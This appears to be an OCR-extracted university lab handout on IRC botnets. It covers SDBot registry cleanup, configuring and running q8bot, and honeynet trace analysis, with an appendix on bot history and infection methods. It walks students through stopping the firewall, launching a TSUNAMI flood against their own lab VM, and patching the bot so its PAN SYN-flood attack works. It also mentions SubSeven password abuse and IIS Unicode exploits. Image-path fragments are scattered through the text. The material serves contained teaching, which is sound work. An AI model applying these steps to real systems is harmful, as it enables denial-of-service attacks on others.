   From this, you should be able to tell what the names of SDBot’s registry entries are.

Q.2.10. Where are the registry entries? Why are the entries placed in these two locations?

4. Open the registry editor by clicking and typing in “regedit”.
5. Delete the registry entries as described by the source code and restart the virtual machine.
6. Verify that sdbot05a.exe and TEMP.exe no longer show up as processes in Windows Task

Q.2.11. How would a user know where in their registry the bot is located if the source code
were not available for inspection?

Section 3: q8Bot

Q8bot is one of the thinnest available bots and one of the few available for linux. It is written in
C. Its main functionality is to generate DoS attacks against select targets.

3.1 Installation and Configuration
Power up your Redhat 7.2 virtual machine. Copy the q8bot.c file from the Network Attached
Storage to the VM.

Before operating the qbot software, we will need to turn off the firewall so that it won’t interfere
with our incoming and outgoing connections. Open a terminal and type

#service iptables stop

As with SDBot, you will need to make a few modifications to the q8bot file before it can be
compiled and executed. Open up the source code file in your favorite editor. You need toconfigure the bot to connect the IRC server and channel you previously created. You will see the
lines :

char *servers[] = {

Change the text in the quotes to the IRC server’s IP address – that is your WS 4.0 IP Address.
Next, change the channel name. Remember that on the workstation machine, you are already
logged into the channel #ece4112. So, change the lines:
#define CHAN "SETME!!"


#define CHAN “#ece4112”

Lastly, change the ircd port number from 6667 to 6668:

#define IRCD_PORT 6667 #define IRCD_PORT 6668

Compile and run the bot using :

gcc –o 4112q8bot q8bot.c

The program turns itself into a daemon and moves into the background. However, it does a
pretty shabby job of hiding itself. Type in:

ps -e

You should see q8bot running plain as day. Note the bot’s process id. Now, run:

ps –ef

The bot is gone! Use the man pages to figure out what the –e and –f flags do.

Q3.1. What process is listed as running using q8bot’s process id when you used ps –ef?

Q3.2. Open the bot’s source code and identify the lines responsible for this renaming. Why
does this renaming only work when the –f flag is used? (Hint: look at the other entries with
and without the –f flag. What is different about the process names displayed in the
corresponding lists?)

Q3.3. Of what we have done so far, what could we have done differently to make the bot
less noticeable when not using the –f flag? (You’ve only done one thing with the bot so

If your bot has started up successfully, in a couple of minutes it should log in to the IRC server.
The bot will log into the server with a random username. Note that the IRC server does not allow
users to log in with the same nickname. Hence, the bot generates arandom nickname each time it
connects. Can this be used to detect the bot on the network?

Screenshot #3: Take a screenshot of the X-Chat window showing the bot successfully
joining the channel.

3.2 Using q8bot
To say that q8bot is not user friendly is an understatement. The source code itself has little or no
comments and is structured to ensure minimum readability. Of course, it is malicious software,
and not expected to live up to the strict industry source code standards! However, there is a little
help in the code which will enable us to explore the functionality of this bot.

Look for the function titled “help” in the code. You will see a listing of commands the bot

Q3.4 List any three commands that you find there which you think might be useful to theattacker. Which command do you think can perform great damage?

Now, we will use the TSUNAMI command to launch a DoS attack against your Windows XP
virtual machine. As can be seen in the source code, the format is TSUNAMI <target> <secs>.
On your host machine, open ethereal and filter the packets using:

ip.src == <Red Hat 7.2 IP> && ip.dst == <Win XP VM IP>

Start capture. In your X-IRC client window, type:


This command will launch a DoS attack against the XP virtual machine.

Q3.5 What destination port is the attack traffic directed to?

Note that the bot may quit after it has completed the attack (I tried to fix it, but the code is a
mess, so I couldn’t get at all of the exit calls). If this happens, just restart it on your Red Hat
virtual machine.

Our aim in this lab is not turn students into script-kiddies. And so far, you have done nothing but
just use existing source code to launch attacks. The actual source code for the q8bot was not
functional and we had to make a few changes to get the DDoS attacks to work. It will be a good
exercise to get your hands dirty and get the PAN attack to work.

Q3.6 Make changes to the source code so that the PAN attack can execute successfully. For
help, look at the differences between the code for pan function and the tsunami function in
the source file. List the changes that were required to get it to work.

Q3.7 What command did you issue on the irc channel to launch the PAN attack?

Screenshot #4: Take a screenshot of the ethereal capture of the PAN tcp/syn flood attack to
your WinXP virtual machine copy.

Q3.8 Can botnets be formed by relying on protocols other than IRC? If yes, give a possible
protocol that can be used.

Section 4: HoneyNet Botnet Capture Analysis
In this section we will explore how botnets can be analyzed by setting up honeypots. Since we
cannot run a honeypot connected to the Internet in our lab, we will use packettraces from a

German HoneyNet team which did an extensive analysis on the botnets they captured on their

Connect to your Network Attached Storage and download the botnet-trace.pcap file. You can
use either ethereal or snort to analyse the files.

A detailed discussion of the analysis of botnets using honeypots can be found in Appendix B.

The IP address of the Honeypot involved in the trace is The honeypot has been
setup with an IRC server. The trace file contains packets of an actual attacker logging into the
honeypot and running exploits. Adequate analysis of the sniffed packets should help you answer
the following questions.

Q4.1 What ethereal filter setting will you use to view IRC connections coming to the

Q4.2 Sniff out the IRC packets in the pcap file and analyze the first few connections. You
will see loginattempts by the user. What username did the user try to login with (you will
be able to find at least 2 easily)? Were the attempts successful?

Q4.3 After the user successfully gains access to the honeypot, you will see him set the mode
with the –x and +i flags. What do you think is the use of these settings?

Q4.4 What source IP(s) are the attacks coming from?

                                Turn-in checklist
You need to turn in:

   Answer sheet.
   4 screenshots
   Any corrections or additions to the lab.

                                          Appendix A:

1. What Is A Bot and What Is A Bot Not.

Firstly the term Bot is derived from the word Robot which in turn is derived from the Czechoslovakianword "robota" which simply means work. Bot is a generic term and is used to describe an automatom or
automated process in both the real world and the computer world. Search engines use Bots to spider
websites with and online games such as Quake use Bots as artificial opponents. Bots do not need to eat,
drink or sleep and will relentlessly do their masters bidding until told to stop. The Bots we are covering are
IRC Bots and they operate in much the same manner. Bots are often also commonly referred to as
Zombies or Drones which are incorrect terms mainly used by the media as it creates a much morefearsome image. One of the first bots written for Unix machines was released as Eggdrop Bot, by which it
is still known today. I am informed by the current head of development for Eggdrop Bot, Jeff Fisher that
Eggdrop was first created in 1993 and can be downloaded from Various Trojan Bots
also have bot in the name given to it by the authors, for example : SubSeven Bot, Bionet Bot, AttackBot,
GT Bot, EvilBot and SlackBot to name just a few specimens. In actuality a Zombie is a Unix process
which is dead and has not yet relinquished it's process table slot, rather like a ghost. Furthermore, a
drone is similar to a zombie and is also still not an accurate description of an IRC Bot.

2. Chronology of IRC Bots

IRC Bots have existed for many years now and arecertainly by any means a new discovery. Eggdrop Bot
for all flavors of Unix have been around several years and were usually used to protect IRC channels in
the owner's absence. Generally these Bots are used for valid and useful purposes but as you can create
your own TCL scripts, they have muchscope to also be used for malicious purposes. Versions of
Eggdrop Bot for Windows also exist under the name of Win Eggdrop. I have seen several versions for
Windows that have been patched so that they run as an invisible process (as a Trojan). More information
on Eggdrop Bots along with a full range of scripts can be found at Malicious Trojan
Bots for Windows have existed for at least four years with early know versions being Bots such as,
which was a precursor to the Subseven Bot. The knowledge gained from the development of AttackBot
along with the code was applied in a condensed form into the Subseven Bot. You can find a description,
or be it not an accurate description of AttackBot at Dark-e and information regarding the Subseven
Trojan. Past articles have been written about specific types of Trojans that connect to IRC and launch
DDOS (distributed denial of service) and one very good article on the subject can be found at Idefense
read the PDF Adobe Acrobat file and also read this article by Idefense This article is an analysis of
Subseven Trojan's ability to launch DDOS and although covering a version of Subseven that is now
nearly two years old and a little outdated, but was and still is very accurate in its assessment.

3. The Distinct Types of Bots.

IRC Bots come in several different flavors and for several different operating systems. For Windows, there
are three specific types of Bots,
(1.) Bots that consist of a single binary, such as AttackBot, SubSeven, EvilBot, SlackBot etc.
(2.) Bots that use one or more binaries and open source script files normally based around mIRC 32 and
commonly referred to as GT Bot (Global Threat) which we cover in a lot more detail here URL?? as they
are the easiest to edit and create new variants of due to their being open source mIRC scripted files.
(3.) Bots that are a backdoor in another program such as Socket Clone Bots in mIRCwhich when you

open mIRC makes two connections to the server instead of the normal one connection. Scripted Worms
such as Judgement Day created Socket Clones to propogate themselves.

4. The Stages Of Bot Distribution and Infection.

(a.) Contrary to popular belief Email attachments are not the most popular or effective way to spread
Trojans. How many Trojans do you get in your Email account each day? Join any popular IRC server and
you will recieve a whole plethora of DCC filesends or adverts for web sites with infectious downloads or
even infectious HTML using the Active-X exploit for Microsoft Internet Explorer. If your browser is not
patched against these exploits it is very easy to drop a small Trojan onto the machine that visits the web
page. This exploit is limited and only files less than 34 kb can be dropped. IRC Bots of less than 10 kb
compressed do exist and can easily be dropped (EvilBot is a mere 7kb when compressed with UPX).

We have put together a demonstration of the browser exploit here and you can safely test your browser to
see if you are affected by visiting this link that we have created. URL If you are affected you will need to
install the Microsoft critical update immediately. A lot of the dropped files are Web Download Trojans
which are a one shot deal. Once executed they invisibly get a predetermined file from the web and
execute it. This is how larger Bots or Trojans are installed onto machines. Simply the best way to infecta
machine is to use an exploit or existing exploit so the user does not see or suspect anything. If you were
sent a file that when you ran it nothing appeared to happen you would very likely be suspicious or know
you most likely just ran a Trojan.

A great many Bots scan for victims of other Trojans such as SubSeven. This has two distinct advantages
for the hacker. Firstly they can scan a lot of class C blocks without scanning themselves or wasting their
own bandwidth to do so and secondly they can get their Bot onto already Trojan infected machines on the
premise that if the owner did not know they had one Trojan that is detectable by nearly all Anti
Trojan/Virus applications then they certainly won't know they have another that is undetectable by
signature by all of these applications. This to a large degree is why we use Generics as a second layer of
defense against unknown Trojans. The SubSeven scan yields victims on default ports and also exploits
the old SubSeven master password which works on all SubSeven 2.* versions upto and not including
SubSeven 2.1.3 Bonus. Once a victim has been found and logged into using the command
(UFU to update from the web is sent. Once receivedSubSeven will download the new file and run it and then remove itself.

The Leave Trojan/Worm was a recent specimen that exploited this loophole. URL Another common trick
lately has been to scan for Exploitable Windows 2000 IIS (Internet Information Server) machines and use
Unicode exploits to Spawn an FTP server that can be uploaded with a Trojan of choice.

We recently discovered a Botnet with just over 1800 of these machines active and online at any time,
again these were Windows 2000 machines with the IIS vulnerability. Considering that all the infected
hosts are not likely to all be online at the same time this makes for a rather large Botnet. The binary they
were running was quite crude but could generate a lot of malicious traffic especially as a lot of the hosts
had broadband connections or were *.EDU (University Hosts). These particular Bots were used effectively
against EFNET (Eris Free Network) which is a group of linked IRC Chat Servers in a recent DDOS
